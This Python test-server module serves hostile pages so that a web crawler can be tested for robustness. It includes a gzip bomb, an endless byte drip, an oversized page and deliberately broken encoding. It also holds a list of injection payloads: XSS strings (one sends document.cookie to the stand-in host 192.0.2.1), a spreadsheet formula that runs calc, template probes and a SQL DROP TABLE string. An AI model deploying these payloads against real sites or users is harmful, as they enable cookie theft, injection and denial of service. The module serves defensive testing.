"""Hostile answers under a hidden address of Kestrel, for testing that a crawler survives them."""

import asyncio
import gzip
from collections.abc import AsyncIterator
from functools import cache

from starlette.requests import Request
from starlette.responses import HTMLResponse, Response, StreamingResponse
from starlette.routing import Route

BOMB_BYTES = 256 * 1024 * 1024  # unpacked; about 1000 times less on the wire
BIG_BYTES = 50 * 1024 * 1024
DRIP_SECONDS = 1.0
_SCRIPTS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"fetch('http://192.0.2.1/'+document.cookie)\">",
    "<svg onload=alert(1)>",
    "<a href=\"javascript:alert('x')\">click</a>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<form action=http://192.0.2.1/><input name=q autofocus onfocus=this.form.submit()></form>",
    "<meta http-equiv=refresh content=\"0;url=http://192.0.2.1/\">",
    "\"><style>@import 'http://192.0.2.1/x.css'</style>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE listing; --",
)  # fmt: skip


def routes() -> list[Route]:
    """Return the routes `/trouble/{drip,bomb,script,big,broken}`."""
    kinds = {"drip": drip, "bomb": bomb, "script": script, "big": big, "broken": broken}
    return [Route(f"/trouble/{name}", endpoint) for name, endpoint in kinds.items()]


async def drip(request: Request) -> Response:
    """Send one byte a second, for ever."""

    async def bytes_of() -> AsyncIterator[bytes]:
        while not await request.is_disconnected():
            yield b"."
            await asyncio.sleep(DRIP_SECONDS)

    return StreamingResponse(bytes_of(), media_type="text/html")


async def bomb(request: Request) -> Response:  # noqa: ARG001 (Starlette's signature)
    """Send a small body that unpacks to a quarter of a gigabyte."""
    return Response(await asyncio.to_thread(_bomb), media_type="text/html", headers={"Content-Encoding": "gzip"})


@cache
def _bomb() -> bytes:
    return gzip.compress(b"\0" * BOMB_BYTES, mtime=0)


async def script(request: Request) -> Response:  # noqa: ARG001 (Starlette's signature)
    """Send a listing page whose every text tries to run, load or inject something."""
    rows = "".join(f'<tr><td class="title">{text}</td><td>{text}</td></tr>' for text in _SCRIPTS)
    return HTMLResponse(f'<html><head><title>Kestrel Bazaar</title></head><body><h1 class="listing-title">{_SCRIPTS[0]}Glock 19</h1>'
                        f'<div class="listing-description">{"".join(_SCRIPTS)}</div><table>{rows}</table></body></html>')  # fmt: skip


async def big(request: Request) -> Response:  # noqa: ARG001 (Starlette's signature)
    """Send 50 MB of page."""
    line = b"<p>" + b"kestrel " * 127 + b"</p>\n"

    async def lines() -> AsyncIterator[bytes]:
        for _ in range(BIG_BYTES // len(line) + 1):
            yield line

    return StreamingResponse(lines(), media_type="text/html")


async def broken(request: Request) -> Response:  # noqa: ARG001 (Starlette's signature)
    """Send a page that says it is UTF-8 and is not, with open tags and NUL bytes."""
    body = b'<html><head><meta charset="utf-16"><title>Kestrel \xff\xfe</title><body><h1 class="listing-title">Pistol \xc3\x28 \x80<b>'
    return Response(
        body + "Пистолет".encode("cp1251") + b"\0\0<div><table><tr><td>USD 4\xa050",
        headers={"Content-Type": "text/html; charset=utf-8"},
    )
